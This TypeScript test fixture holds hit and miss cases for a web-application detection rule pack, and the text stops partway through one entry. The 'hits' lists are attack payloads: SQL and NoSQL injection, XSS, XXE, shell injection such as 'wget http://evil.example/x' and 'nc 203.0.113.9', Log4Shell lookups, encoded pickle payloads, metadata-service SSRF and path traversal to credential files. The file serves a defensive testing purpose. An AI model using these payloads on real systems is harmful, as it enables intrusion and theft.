/** What a rule has to match, and what comes close and has to pass it. */
export interface RuleCases {
  readonly hits: readonly string[];
  readonly misses: readonly string[];
}

/** Cases of every rule of the own pack about databases and directories, by its number. Every attack is of our own making. */
const QUERIES: Readonly<Record<string, RuleCases>> = {
  101110: {
    hits: ["x' or name like 'b", "nobody') and (total > 3", 'z" or "q"="q'],
    misses: ["O'Brien or Sons = 2", "it's here or there", "status = 'open' and age > 5", "'main' or 'dev'"],
  },
  101111: {
    hits: ["x' or true--", "x' and length('a')", "q' || 1 #"],
    misses: ['3" or 4"?', "the 'a' or 'b' option", "rock 'n' roll", "O'Neil and 5 others"],
  },
  101112: {
    hits: ["7' order by 3", "x' limit 1", "b') having sum(a"],
    misses: ["Ana's order by phone", "the 'main' union", "it's limited"],
  },
  101120: {
    hits: [
      "1e0union select 1",
      "1 union select 2",
      "x') UNION ALL SELECT name FROM staff",
      "9/**/union/**/select/**/null,1",
    ],
    misses: ["The union select committee met", "union: select one", "the European Union selected 3"],
  },
  101121: {
    hits: ["1 union select", "2 union all select from"],
    misses: ["The union select committee met", "credit union selection"],
  },
  101130: {
    hits: ["case when 1=1 then", "' or 7=7--", "x or 'ab'='ab'", "1 and 2 = 2", "admin' || 5=5"],
    misses: ["one and two", "5 or 6 items = 7", "true or false?"],
  },
  101131: { hits: ["1 and 3=4", "x or 'a'='b"], misses: ["sizes 3 and 4 are sold out", "5 > 3 && 2 < 4"] },
  101132: { hits: ["x or a=b--", "7 and name like 'q' #"], misses: ["salt and pepper", "terms and conditions - 2026"] },
  101140: {
    hits: ["5) and (2=2", "7 or sleep(1)", "3 || (select 1)"],
    misses: ["1 or 2 people", "5 and a half", "1; mode=block"],
  },
  101141: {
    hits: ["or exists(select 1)", ") and ascii(a)>5", "or 'x' in ('x')"],
    misses: ["or nothing", "And so it goes (again)"],
  },
  101150: {
    hits: ["1; drop table staff", "x'; insert into t values (1)", "5); exec xp_cmdshell", "a; waitfor delay '0:0:5'"],
    misses: ["Hello; select an item", "first; update later", "a; b; c"],
  },
  101151: {
    hits: ["drop table invoices", "delete from users where 1", "x' update staff set pay = 9", "exec sp_who"],
    misses: [
      "Grant all permissions to admins",
      "drop table reservations by Friday",
      "delete from my list",
      "update the settings",
      "grant access to people",
    ],
  },
  101160: {
    hits: ["1' and waitfor delay '0:0:9'", "pg_sleep(9)", "benchmark(5000000,md5(1))", "x' and sleep(5)#"],
    misses: ["sleep well (8 hours)", "time.sleep(5)", "wait for delay"],
  },
  101161: { hits: ["sleep(5)", "a;sleep(9)#"], misses: ["time.sleep(5)", "asleep (8 hours)"] },
  101170: {
    hits: [
      "select load_file('/x')",
      "exec master..xp_dirtree '//e/x'",
      "copy t from program 'id'",
      "1 into outfile '/tmp/x'",
    ],
    misses: ["load file into memory", "xp points", "copy a file to a program"],
  },
  101180: {
    hits: [
      "extractvalue(1,concat(0x7e,a))",
      "updatexml(null,concat(1),1)",
      "exp(~(select 1))",
      "cast(version() as int)=1",
    ],
    misses: ["exp(2)", "convert (fast)", "floor(x)"],
  },
  101190: {
    hits: ["ascii(substr(a,1,1))>64", "case when 1=1 then 1 else 0 end", "if(1=1,sleep(1),0)", "length(user())=4"],
    misses: ["in case when it rains", "if (a) b", "length (cm)"],
  },
  101200: {
    hits: ["select @@version", "1 and user()", "union select current_setting('port')"],
    misses: ["version()", "the user (admin)", "select version 2"],
  },
  101210: {
    hits: ["select a from information_schema.tables", "from sqlite_master", "from all_tables", "from mysql.user"],
    misses: ["from our information desk", "the master list", "from dusk"],
  },
  101220: {
    hits: ["1=(select 1)", "a,(select b from c)", "x in (select y)"],
    misses: ["select (a)", "a (selected) item"],
  },
  101221: {
    hits: ["select name, pass from staff", "select * from t"],
    misses: ["Select a color from the list below.", "to select from"],
  },
  101222: {
    hits: ["select * from users", "select 1,2", "select password, login from t"],
    misses: ["select a user from the list", "Select 1 item"],
  },
  101230: {
    hits: ["admin' --", "x') /*", "a'#", "root'; -- "],
    misses: ["it's -- well -- fine", "'quoted' # 5", "don't /path"],
  },
  101240: {
    hits: ["1' order by 9--", "x' group by (1)", "1 having 1=1"],
    misses: ["order by phone", "having a good time", "in order by date"],
  },
  101250: {
    hits: ["a'='a", "'-'", "1' like '%", "x'||'y"],
    misses: ["6'-2\"", "'90s music", "Ana's and Bo's", "5' tall"],
  },
  101251: {
    hits: ['x"") or (""a""=""a', "q'') or ('' = ''"],
    misses: ["'''Bold''' and ''italic'' text", 'say ""hi""', "it''s"],
  },
  101260: {
    hits: ["cus_358b05c80a469d' or", "00000000-1111-2222-3333-444444444444'", '123456789"'],
    misses: ["cus_358b05c80a469d", "don't", "5'10"],
  },
  101270: {
    hits: ["1/*!50000union*/ x", "uni/**/on sel/**/ect", "or/**/1"],
    misses: ["/*! normalize.css v8 */", "src/**/*.ts", "/* or */ x"],
  },
  101280: {
    hits: ["char(97,98,99)", "concat(0x7e,a)", "like char(37)", "a = 0x61646d696e "],
    misses: ["0x23352036e911a22cfc692b5e2e196692658aded9", "char (a)", "concat(a, b)"],
  },
  101290: {
    hits: ["\u2019 or \u20181\u2019=\u20191", "\u02bc or 1=1"],
    misses: ["Ana\u2019s or Bo\u2019s", "it\u2019s so"],
  },
  106110: { hits: ["$where", "$ne", "$regex"], misses: ["$ref", "$comment", "$schema", "$id"] },
  106120: { hits: ["user[$ne]=1", '{"$gt":""}', "1, $where: '1'"], misses: ["$gt", "costs $in total", "{$name}"] },
  106121: {
    hits: ['{"$set":{"role":"x"}}', '[{"$unionWith":"t"}]', '{"id":{"$type":2}}', "filter[where][pin][like]=%"],
    misses: ["{$size: 10px}", "costs {$all}", '{"type":{"set":1}}', "where to like"],
  },
  106130: {
    hits: ["';return this.a=='b", "'||'a'=='a", "|| 1==1//", "x';while(1)"],
    misses: ["this.name", "return this", "'a' || 'b'"],
  },
  106140: {
    hits: ["db.users.find({})", "do{a=new Date();}while(a<b)", "}, {pass: /.*/ }"],
    misses: ["db.users", "do it while you can", "new date"],
  },
  106150: {
    hits: ["' with 1 as a", "LOAD CSV FROM 'http://e'", "call apoc.load.json"],
    misses: ["'with 2", "call the office", "load a csv"],
  },
  106151: {
    hits: ["/_users/_all_docs", "/_cat/indices", "{!func}x", "x OR *:*", "pin:x OR secret:[* TO *]", '_query_:"x"'],
    misses: ["*:*", "all_docs", "{!important}", "age:[1 TO 5]", "_config.yml", "/_next/static/x.js"],
  },
  106152: {
    hits: ["x' ALLOW FILTERING", "drop keyspace shop;", "FOR u IN staff RETURN u", "g.V().drop()", "x').has('y')"],
    misses: ["allow filtering by date", "for us in return", "for x in items return", "$('a').has('b')", "1. V (five)"],
  },
  106160: {
    hits: ["{__schema{types{name}}}", '__type(name:"User")', "x) { id } staff { pin } #"],
    misses: ["query { user(id: 1) { name } }", "the __schema field", "if (a) { b } else { c }"],
  },
  113110: { hits: ["*)(uid=*", "x)(|(a=b", "a)(cn=b"], misses: ["(a)(b)", "50*2=100", "f(x)(y)"] },
  113120: { hits: ["(objectClass=*)", "(&(uid=a)(mail=b))", "(sn=admin)"], misses: ["(a=b)", "uid 5", "(mail me)"] },
  113130: {
    hits: ["pass = q))", "a)(b)(c=*", "*)(&", "admin)(&)", "*))%00"],
    misses: ["Thanks :))", "(char *)(buf)", "f(x)(y)", "********", "*bold*", "(x)", "!!!"],
  },
  114110: {
    hits: ["' or count(//x)=1", "'] | //*[", "x' or name(/*)='a"],
    misses: ["' or '", "the 'name' (full)", "a // b"],
  },
  114120: {
    hits: ["string-length(/x)", "count(/child::node())", "//user[name='x']"],
    misses: ["count(items)", "a // b", "position (left)"],
  },
  114130: {
    hits: ["doc('http://e/x')", "for $x in doc('a')", "let $a := 1"],
    misses: ["see doc (1)", "let it be", "for x in y"],
  },
};

/** Cases of the rules about markup. */
const MARKUP: Readonly<Record<string, RuleCases>> = {
  102110: {
    hits: ["<script>x</script>", "< script src=x>", "<svg:script>"],
    misses: ["<p>text</p>", "<b>scripts</b>", "a <scripted> b"],
  },
  102111: { hits: ["<object data=x>", "<embed src=x>", "<applet code=x>"], misses: ["an <objective> b", "embedded"] },
  102112: {
    hits: ["<IFRAME src=//evil.example>", "<iframe src=javascript:x>"],
    misses: ['<iframe width="5" src="https://www.youtube.com/embed/x"></iframe>', "an iframe"],
  },
  102113: {
    hits: [
      "<base href=//e>",
      '<meta http-equiv="refresh" content=0>',
      "<style>a{}</style>",
      "<link rel=stylesheet href=//e>",
    ],
    misses: ["<link to resource>", "<stylish>", "<basement>"],
  },
  102114: {
    hits: ["<svg><animate attributeName=href>", "<svg/onload=x()>", "<math><foreignObject>", "<use href='data:x'>"],
    misses: ['<svg width="5"><path d="M0"/></svg>', "<settings>"],
  },
  102115: { hits: ["<svg>", '<math xmlns="x">'], misses: ["svg", "<mathematics>"] },
  102116: { hits: ["<form action=//e>", "<button formaction=x>", "<input autofocus>"], misses: ["<format>", "a form"] },
  102117: {
    hits: ["<noscript><p>", "<template>", "<!--[if IE]>", "<marquee>"],
    misses: ["<templates>", "<!-- if -->"],
  },
  102120: {
    hits: ["<img src=x onerror=go()>", "<p onclick='go()'>", "<a/onmouseover=x>"],
    misses: ["<p>only = 5</p>", "a < b on Monday"],
  },
  102121: {
    hits: ['" onfocus="go()', "x onmouseover = go", "'onload=x"],
    misses: ["based on=5", "on Monday = closed", "online=true", "version=2"],
  },
  102130: {
    hits: ["javascript:go()", "java\tscript:go()", "<a href=vbscript:x>", "[x](javascript:y)"],
    misses: ["JavaScript is a language", "JavaScript: The Good Parts", "typescript: 7.0"],
  },
  102131: {
    hits: ["see javascript:go(1)", "x javascript://%0a1"],
    misses: ["JavaScript: The Good Parts", "written in javascript: yes"],
  },
  102132: {
    hits: ["data:text/html,<b>", "x data:image/svg+xml;base64,AA"],
    misses: ["data: see below", "data:image/png;base64,AAAA"],
  },
  102133: {
    hits: ["<a href=j&#97;v>", "<img src='&#x6a;a'>", "<a href=jav&tab;x>"],
    misses: ["<a href=https://x.example>", "<a href=/j>"],
  },
  102140: {
    hits: ["';alert(1)//", '"-confirm(2)-"', "`);eval('x')", "};location.href='//evil.example'"],
    misses: ["'alert' (noun)", "red alert! (again)", "'print' the page"],
  },
  102150: {
    hits: ["alert(1)", "prompt('x')", "(alert)(1)", "[1].map(alert)"],
    misses: ["alert level (high)", "an alert was sent", "prompt (short)"],
  },
  102151: {
    hits: ["eval(atob('x'))", "top['al'+'ert'](1)", "String.fromCharCode(88)", "[][(![]+[])]"],
    misses: ["the top [1]", "function (x)", "evaluate"],
  },
  102152: {
    hits: ["document.cookie", "x.innerHTML='y'", "new Image().src='//e'", "location='//evil.example'"],
    misses: ["document the cookie policy", "the location = Leeds", "window.open(x)"],
  },
  102160: {
    hits: ["width: expression(go())", "@import 'x.css'", "-moz-binding:url(x)", "background:url(javascript:x)"],
    misses: ["a facial expression (happy)", "url(https://x.example/a.png)", "import taxes", "good behavior: yes"],
  },
  102161: { hits: ["<b style='background:url(x.svg#a)'>", "*{color:red/*"], misses: ["<b style='color:red'>", "*{a}"] },
  102162: { hits: ["<b style='font-family:a[b'>", '<i style="x{y">'], misses: ["<b style='color:red'>", "style[0]"] },
  102170: {
    hits: ['"><b>x', "'/><img>", "</script><p>", "x</title><b>", "--> <b>", '"-->'],
    misses: ["a > b", 'see "this"', "</p><p>", 'one with a trailing "-->", and one without'],
  },
  102171: { hits: ["<img/src/=x", "<x onx>", "<p srcdoc=x>", "<<img src=x>"], misses: ["<img src='a.png'>", "1 << 2"] },
  102172: { hits: ["<![CDATA[x", '<?xml version="1.0"?>', "<?xml-stylesheet x?>"], misses: ["xml", "<xmlns>"] },
  102173: { hits: ["<body background=x>", "<img src=x>"], misses: ["<body>", '<img src="https://x.example/a.png">'] },
  102174: {
    hits: ["<img name=cookie>", '<form id="createElement">', "<a id=__proto__>"],
    misses: ['<img alt="cookie">', '<a name="attributes">', '<input name="email">', "<form id=login>"],
  },
  102180: {
    hits: ["{{constructor.constructor('x')()}}", "<p ng-init='x'>", "<b v-html='x'>", "<b x-init=y>"],
    misses: ["{{name}}", "ng-book", "v-neck shirt"],
  },
  102190: { hits: ["+ADw-script+AD4-", "\uff1cscript", "&#x000003c"], misses: ["a+b", "&#x3c", "1+1"] },
  110110: {
    hits: [
      '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://e.example/a.dtd">',
      '<!DOCTYPE a [<!ENTITY b "x">]>',
      '<!DOCTYPE a SYSTEM "http://e">',
      "<!DOCTYPE html [x",
    ],
    misses: ["<!DOCTYPE html>", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x">'],
  },
  110111: {
    hits: ["<!ENTITY x 'y'>", "<!ENTITY % p SYSTEM 'z'>", "<!ATTLIST a b"],
    misses: ["an entity", "<!-- entity -->"],
  },
  110120: {
    hits: ['SYSTEM "file:///x"', "SYSTEM 'http://e/x.dtd'", "%dtd; %send;"],
    misses: ["the system 'file'", "50%; done"],
  },
  110121: {
    hits: ["%remote;", "&xxe;", "<a>&exfil;</a>"],
    misses: ["%name;", "<td>&nbsp;</td>", "&amp;", "<a>&lt;</a>", "&nbsp;"],
  },
  110130: {
    hits: ["<xi:include href='x'/>", "<a xsi:schemaLocation='x http://e'>", 'encoding="UTF-7"'],
    misses: ["include", 'encoding="UTF-8"'],
  },
  119110: { hits: ['<!--#exec cmd="id"-->', "<!-- #include file='x' -->"], misses: ["<!-- a comment -->", "# echo"] },
  119111: { hits: ['<esi:include src="x"/>', "$(HTTP_COOKIE{'x'})"], misses: ["<essay>", "$(cost)"] },
  119120: {
    hits: ["<xsl:value-of select='x'/>", "document('file:///x')", "php:function('x')"],
    misses: ["the document (old)", "xsl style"],
  },
};

/** Cases of the rules about programs and templates. */
const CODE: Readonly<Record<string, RuleCases>> = {
  103110: {
    hits: ["a.png; wget http://evil.example/x", "x | nc 203.0.113.9 9", "1 && whoami", "$(curl http://e)"],
    misses: ["Python; Perl; Ruby", "Linux; Bash", "R&D; sales", "&lt;source&gt;", "Tom & Jerry"],
  },
  103111: { hits: ["x; cat /etc/x", "x|id", "1 & sleep 5"], misses: ["cats; dogs", "ping | pong", "a; b | c"] },
  103112: {
    hits: ["x; find / -name id_rsa", "a | tail -n 5", "1 & type c:\\boot.ini"],
    misses: ["one | more options", "colors; type of paper", "date; time"],
  },
  103113: {
    hits: ["c^a^l^c", "ho$@stname", "{cat,/etc/x}", ";X=$'id';$X", "a${IFS}b", "w'h'oami"],
    misses: ["x^y^z", "US$@5", "{id, name}", "x='1'; y='2'", "{cat, dog}"],
  },
  103114: {
    hits: ["net user eve Secret1 /add", 'reg add "HKLM\\Software"', "ipconfig /all", "certutil -urlcache x"],
    misses: ["net user growth", "register now", "session viewer"],
  },
  103115: {
    hits: ["powershell -enc AAAA", "IEX(x)", "(New-Object Net.WebClient).DownloadString('x')"],
    misses: ["PowerShell is a shell", "index (x)"],
  },
  103120: {
    hits: ["/bin/bash -c x", "nc -e x 203.0.113.9 1", "rm -rf /x", "cat /etc/hosts", "curl http://e | sh"],
    misses: ["#!/bin/bash", "bash is a shell", "a cat and a dog", "chmod explained"],
  },
  103121: {
    hits: ["wget http://evil.example/x", "uname -a", "ls -la /"],
    misses: ["list", "sleep 5 hours", "ping me"],
  },
  103122: {
    hits: ["mkfs.ext4 /dev/sdb", "echo x > /dev/sda", "docker run -v /:/host x", "find / -exec id", "iptables -F"],
    misses: ["docker run -p 80:80 nginx", "find a file", "kill -9 is the last resort", "history of c", "osascript"],
  },
  103130: {
    hits: ["x`sleep 9`", "$(cat </etc/hosts)", "`/usr/bin/id`"],
    misses: ["run `npm test` first", "$100 (net)"],
  },
  103131: { hits: ["$(nproc)", "`foo`", "${path:0:1}"], misses: ["${total}", "a `code` span"] },
  103140: {
    hits: ["() { :; }; echo x", "() { _; } >_[$($())] { x; }"],
    misses: ["() => { x; }", "function () { return 1; }"],
  },
  103150: {
    hits: ["-oProxyCommand=x", "--upload-pack=x", "--checkpoint-action=exec"],
    misses: ["core.editor=vim", "NODE_OPTIONS=--max-old-space-size=4096", "--output", "-o file", "--help"],
  },
  103160: {
    hits: ["x\r\nFLUSHALL\r\n", "a%0d%0aRCPT TO:<x@y.example>", "\nslaveof e 6379\n"],
    misses: ["line one\nline two", "config set"],
  },
  103170: { hits: ["\u001b[2Jcurl x", "\\033[2wget x", "\u001b]0;x"], misses: ["\u001b[31mred\u001b[0m", "[2A"] },
  103180: {
    hits: ["CreateObject('WScript.Shell')", 'new ActiveXObject("x")', "GetObject('winmgmts:')"],
    misses: ["create an object", "createObject('cart')", "ActiveX objects"],
  },
  107110: {
    hits: ["{{~3*4}}", "[=3*4]", "{{7*7}}", "${7*7}", "#{7*7}", "{{'a'*7}}"],
    misses: ["{{name}}", "${total}", "7*7"],
  },
  107120: {
    hits: ["x.__class__.__mro__", "a|attr('__globals__')", "['__init__']"],
    misses: ["__init__.py", "a class"],
  },
  107121: {
    hits: ["{{config.items()}}", "{{ self }}", "{{request.application}}", "{{ lipsum(1) }}"],
    misses: ["{{name}}", "{{ user.first_name }}", "{{ request.id }}"],
  },
  107130: {
    hits: ["<%= system('id') %>", "{{ x.popen('id') }}", "${eval('x')}", "<%= `ls` %>"],
    misses: ["{{ total }}", "system('id')"],
  },
  107131: {
    hits: ["{{ ['id']|filter('system') }}", "{{_self.env}}", "{% debug %}"],
    misses: ["{{ a|b }}", "a | filter"],
  },
  107140: {
    hits: ["T(java.lang.Runtime)", "x.getClass().forName('y')", "getRuntime().exec", "new ProcessBuilder('x')"],
    misses: ["java.lang.String", "a class in Java", "getRuntime"],
  },
  107141: {
    hits: ["#_memberAccess['x']", "@java.lang.System@x", "%{1+1}", "${#a=1}"],
    misses: ["a@b.example", "100%", "#context"],
  },
  107142: {
    hits: ["${pageContext.request}", "${''.getClass()}", "#{session.x}", "__${x}__::"],
    misses: ["${total}", "${user.name}"],
  },
  107150: {
    hits: ['<#assign x="y">', '${"x"?new()}', "#set($x='y')", "$x.class.inspect"],
    misses: ["<@U12345> has joined", "<@!80351110224678912> hi", "#set", "$5.00", "<#1>"],
  },
  107160: { hits: ["<%= name %>", "<% system('x') %>", "<jsp:include>"], misses: ["<%body%>", "50 <% of", "5 % > 3"] },
  107161: {
    hits: ["{php}x{/php}", "{system('x')}", "{$smarty.version}", "{!! q('x') !!}"],
    misses: ["{!! name !!}", "{name}", "{if}"],
  },
  107162: {
    hits: ["{{#with x}}", "{{= x}}", "{{range.constructor('x')}}", "#{root.process}"],
    misses: ["{{name}}", "{{#if x}}"],
  },
  107163: { hits: ["@(a.b)", "@System.IO.File", '{{printf "%v" .}}', "{{ . }}"], misses: ["me@example.com", "@name"] },
  107170: {
    hits: ["{% include 'x' %}", "{% import 'x' as y %}", "{% set x = y.z %}"],
    misses: ["{% name %}", "{% else %}"],
  },
  107171: { hits: ["{% for a in b %}", "{% endif %}", "{{ a('b') }}"], misses: ["{{name}}", "{% x %}"] },
  108110: { hits: ["${jndi:ldap://x.example/a}", "${jndi}", "${ JNDI :x"], misses: ["jndi:ldap", "$jndi"] },
  108111: { hits: ["${${lower:j}ndi:x}", "${j${::-n}di:x}"], misses: ["${a}${b}", "${name}"] },
  108112: { hits: ["${lower:J}", "${::-j}", "${env:NOTHING:-j}"], misses: ["${HOME:-/root}", "${name}"] },
  108120: {
    hits: ["${script:js:x}", "${dns:evil.example}", "${env:AWS_SECRET_ACCESS_KEY}", "${java:version}"],
    misses: ["${file}", "${url}"],
  },
  108121: { hits: ["${env:HOME}", "${sys:user.name}"], misses: ["${name}", "env:HOME"] },
  111110: {
    // The last three: `cos`, `ccommands`, `csubprocess` and the function in the next line.
    hits: [
      "rO0ABXNyAA==",
      "AAEAAAD/////AQ",
      "gASVKAAAAA==",
      "Y29zCmV4ZWN2CnAwCg==",
      "Y2NvbW1hbmRzClBvcGVuCnAwCg==",
      "Y3N1YnByb2Nlc3MKUG9wZW4KcTA=",
    ],
    // `cost` and `cosine`.
    misses: ["Rob", "AAAA", "gasoline", "Y29zdA==", "Y29zaW5l"],
  },
  111111: { hits: ['O:4:"User":1:{s:1:"a";i:1;}', 'a:1:{i:0;s:1:"x";}'], misses: ["O: 4", "ratio a:1:2"] },
  111112: {
    hits: [
      "!com.example.Foo {}",
      "!!python/object/apply:os.system",
      "!ruby/object:Gem::Requirement",
      "!!javax.script.X",
    ],
    misses: ["!important", "!!important", "!ruby"],
  },
  111113: {
    hits: [
      "(S'x'\nios\nsystem\n.",
      "cos\nsystem\n(S'id'\ntR.",
      "(dp0\n",
      "ccommands\nPopen\np0\n((Vid\np1\ntp2\ntp3\nRp4\n.",
      "csubprocess\nPopen\nq\u0000((X\u0002\u0000\u0000\u0000idq\u0001tq\u0002tq\u0003Rq\u0004.",
      "csubprocess\nPopen\n((Vid\nttR.",
    ],
    misses: ["cost\nsystem", "(dp)", "colors\nred\n(optional)", "cats\ndogs\npets", "items\nlist\n(Very nice\nthing)"],
  },
  111114: { hits: ["_$$ND_FUNC$$_function", '{"__js_function":"x"}'], misses: ["a function", "$$"] },
  111115: {
    hits: ["ysoserial.jar", "org.apache.commons.collections.Transformer", "com.sun.rowset.JdbcRowSetImpl"],
    misses: ["a priority queue", "collections"],
  },
  111116: {
    hits: ["<java><object class='x'>", "<sorted-set>", "<void method='x'>"],
    misses: ["<javanese>", "<object>"],
  },
  111117: {
    hits: ["jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'x'", "jdbc:mysql://x/a?autoDeserialize=true", "?socketFactory=a.B"],
    misses: ["jdbc:postgresql://db.example.com/a?ssl=true", "jdbc:h2:mem:a", "socket factory = x"],
  },
  111120: {
    hits: ['{"@type":"com.sun.rowset.X"}', '{"$type":"System.X, Y"}', "{'py/object':'os.system'}"],
    misses: ['{"@type":"Product","name":"Chair"}', '{"type":"user"}', '{"@id":"x"}', "@type: user"],
  },
  111130: { hits: ["@class", "$type"], misses: ["class", "type", "@id"] },
  111131: { hits: ["json_class", "py/object"], misses: ["class", "py"] },
  111140: {
    hits: ["java.lang.Runtime", "com.sun.rowset.JdbcRowSetImpl", "System.Diagnostics.Process, System"],
    misses: ["java.lang.String", "system"],
  },
  112110: {
    hits: ["__proto__", "constructor.prototype", "a[__proto__]"],
    misses: ["proto", "constructor", "prototype"],
  },
  112120: {
    hits: [
      "Object.assign(Object.prototype,{a:1})",
      "/__proto__/admin",
      "__proto__[x]=1",
      "constructor.prototype.x=1",
      'x["__proto__"]="y"',
    ],
    misses: ["the prototype chain", "constructor (builder)", "#sec-object.prototype.__proto__"],
  },
  112130: {
    hits: ["Object.prototype.isAdmin = true", "a.__proto__;", "__defineGetter__('x')"],
    misses: ["Object.prototype.toString", "mdn/__defineGetter__"],
  },
  115110: {
    hits: ["<?php echo 1;", "<?= $x", "<? system('x')"],
    misses: ["PHP is a language", "<?xml version='1.0'?>"],
  },
  115120: {
    hits: ["system($_GET['x'])", "file_get_contents('/etc/x')", "eval(base64_decode('x'))"],
    misses: ["the system (old)", "eval(x)"],
  },
  115121: { hits: ["system('id');", "print md5(1)", "die(md5(3))"], misses: ["print (paper)", "the system ('x')"] },
  115122: {
    hits: [
      "array_filter(['x'],'system')",
      "('system')('id')",
      "strrev('metsys')('x')",
      "\"\\x73ystem\"('x')",
      "chr(105).chr(100)",
      "$f='exec';",
    ],
    misses: ["the (system) (x)", "strrev('abc')", "chr(65)", "$name = 'system';x", "call (exec) now"],
  },
  115130: { hits: ["$_POST['a']", "${@print(1)}", "$GLOBALS['x']"], misses: ["$post", "$_"] },
  117110: {
    hits: ["require('child_process')", "process.mainModule.x", "execSync('id')", "global.process.exit()"],
    misses: ["this process.", "require(d)", "a global process"],
  },
  117111: { hits: ["while(1)", "res.end('x')"], misses: ["while (a)", "the res.end"] },
  119130: {
    hits: ["__import__('os')", "os.system('id')", "subprocess.Popen(x)"],
    misses: ["import os", "a subprocess", "os.path"],
  },
  119140: {
    hits: ["IO.popen('id')", "%x(id)", "os.execute('x')", "x.instance_eval('y')"],
    misses: ["io port", "File.open(x)", "%x"],
  },
  120110: {
    hits: ["\\immediate\\write18{id}", '\\input{|"id"}', "\\directlua{x}"],
    misses: ["\\frac{1}{2}", "\\input{chapter}"],
  },
  120120: { hits: ["\\openin\\file=/x", "\\input{/etc/x}", "\\newwrite\\x"], misses: ["\\frac{1}{2}", "\\sqrt{x}"] },
};

/** Cases of the rules about paths, addresses and protocols. */
const PLACES: Readonly<Record<string, RuleCases>> = {
  104110: {
    hits: ["../../etc/x", "..\\..\\windows\\x", "....//....//x", "..;/..;/x"],
    misses: ["see ../docs", "wait...", "1..10", "v1.2..v1.3"],
  },
  104111: { hits: ["/a/../b", "../etc/x", "..\\windows", "/../x"], misses: ["see ../docs", "a/b/c.txt", "/.../x"] },
  104112: { hits: ["%2e%2e%2fsecret", "%c0%ae%c0%ae%2f", "\uff0e\uff0e/x"], misses: ["a%2eb", "50%2"] },
  104113: { hits: ["..%2fetc", "..%255cx", "..%c0%afx", "..\u2215x"], misses: ["100%..200%", "...%20etc."] },
  104114: { hits: ["..%c0%9vetc", "..2f..2fx", "..0x5c..0x5cx"], misses: ["..2..3", "a..b..c"] },
  104115: { hits: ["etc%c0%afpasswd", "x/etc\\hosts"], misses: ["etc. hosts", "etcetera"] },
  104116: { hits: ["/..../..../", "/............/x"], misses: ["wait....", "a/../b"] },
  104120: { hits: ["/etc/passwd", "file:/etc/shadow", "/etc/ssh/sshd_config"], misses: ["etc/other", "etc. groups"] },
  104121: { hits: ["/proc/self/environ", "/proc/1/maps", "/run/secrets/x"], misses: ["the proc macro", "/process/1"] },
  104122: {
    hits: ["c:\\windows\\win.ini", "\\inetpub\\wwwroot", "boot.ini"],
    misses: ["windows 11", "C:\\Users\\ana\\Documents", "http://windows.example"],
  },
  104123: {
    hits: ["/home/x/.ssh/id_rsa", "/.git/config", "/WEB-INF/web.xml", "/.aws/credentials"],
    misses: ["my.env.name", "https://github.com/x", "/users/5"],
  },
  104124: { hits: ["/var/log/auth.log", "/usr/local/apache2/x", "/opt/lampp/x"], misses: ["the log", "/variables/x"] },
  104130: {
    hits: ["php://filter/read=x", "file:///etc/x", "phar://x.phar", "expect://id"],
    misses: ["php: a language", "zip code: 12345", "file: report.pdf"],
  },
  104140: { hits: ["a.php%00.png", "x.jsp\u0000.jpg", "y%2500"], misses: ["100%", "20%005"] },
  104150: {
    hits: ["\\\\203.0.113.9\\share", "\\\\evil@80\\x", "\\\\.\\pipe"],
    misses: ["\\\\server\\share\\report", "//cdn.example/x"],
  },
  105110: {
    hits: ["http://127.0.0.1/", "http://0/", "http://[::1]/", "http://localtest.me/"],
    misses: ["http://localhost:3000/users", "http://8.8.8.8/"],
  },
  105111: {
    hits: ["http://10.1.2.3:8080/x", "https://192.168.0.1/", "http://172.16.0.1"],
    misses: ["https://api.example.com/10.0.0.1", "rtsp://10.0.0.1", "http://11.1.1.1"],
  },
  105112: {
    hits: ["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://[::ffff:7f00:1]/"],
    misses: ["https://[2606:4700:4700::1111]/dns-query", "http://8.8.8.8/", "https://0604013.mock.example/"],
  },
  105113: {
    hits: ["http://\u2460\u2461\u2466.0.0.1", "http://127\u30020.0.1"],
    misses: ["http://example.com/\u2460", "\u2460"],
  },
  105114: { hits: ["http://x.nip.io", "https://a.oastify.com"], misses: ["nip.io", "https://example.com/x.nip.io"] },
  105115: {
    hits: ["http://metadata.google.internal/", "http://x.svc.cluster.local/", "http://db.internal/"],
    misses: ["https://internal.example.com/", "the metadata"],
  },
  105116: {
    hits: ["http://good.example#@evil.example/", "http://127.0.0.1@evil.example", "http://a.example\\@b.example"],
    misses: ["https://example.com/#top", "https://me@example.com/"],
  },
  105120: {
    hits: ["gopher://x.example/_", "dict://x:11211/", "ldap://x.example/", "file:///x"],
    misses: ["mailto:a@b.example", "tcp: a protocol", "postgres://db.example/x"],
  },
  105121: {
    hits: ["redis://127.0.0.1:6379/", "mysql://root@10.0.0.5/", "mongodb://localhost/x"],
    misses: ["redis://cache.example.com", "ssh://git@localhost/a.git", "localhost redis"],
  },
  105130: {
    hits: ["/latest/meta-data/iam", "169.254.169.254", "/computeMetadata/v1/"],
    misses: ["the latest metadata", "169.254 is a prefix"],
  },
  105140: {
    hits: ["https://localhost:22/", "http://x.example/?u=http://localhost", "http://localhost:6379"],
    misses: [
      "https://id.example/login?redirect_uri=http%3A%2F%2Flocalhost%2Fapp",
      "http://localhost:3000/users",
      "localhost",
      "run it on localhost",
    ],
  },
  105141: { hits: ["http://localhost", "https://localhost/"], misses: ["http://localhost:3000", "localhost"] },
  109110: {
    hits: ["x%0d%0aSet-Cookie:a=b", "%0aLocation:x", "\\r\\nX-Forwarded-For: 1", "%E5%98%8A%E5%98%8DSet-Cookie:x"],
    misses: ["Dear%20Ana%0D%0AHello", "10%0 off"],
  },
  109111: {
    hits: ["a\r\nContent-Security-Policy: x", "x\r\nSet-Cookie: a=b", "a\nHTTP/1.1 200", "a\u560aLocation: x"],
    misses: ["line one\nline two", "Hi\r\n\r\nTopic: x", "cookie: yes"],
  },
  109112: { hits: ["%0D%0A<b>", "%0a%3cx", "%0d%0aX-Test:y"], misses: ["%0D%0ADear", "a%20b"] },
  109113: { hits: ["%0d%0a", "%0%0d%0ad", "%5cr%5cn"], misses: ["%20", "a%0ab"] },
  109120: {
    hits: ["a@b.example\r\nBcc: c@d.example", "a@b.example%0aTo:c", "x\nbcc: e@f.example"],
    misses: ["From: a@b.example", "see\nto: all"],
  },
  116110: {
    hits: ["http://evil.example/shell.txt?", "?page=http://e.example/x.php"],
    misses: ["https://x.example/a.txt", "https://x.example/?u=https://y.example/"],
  },
  116120: {
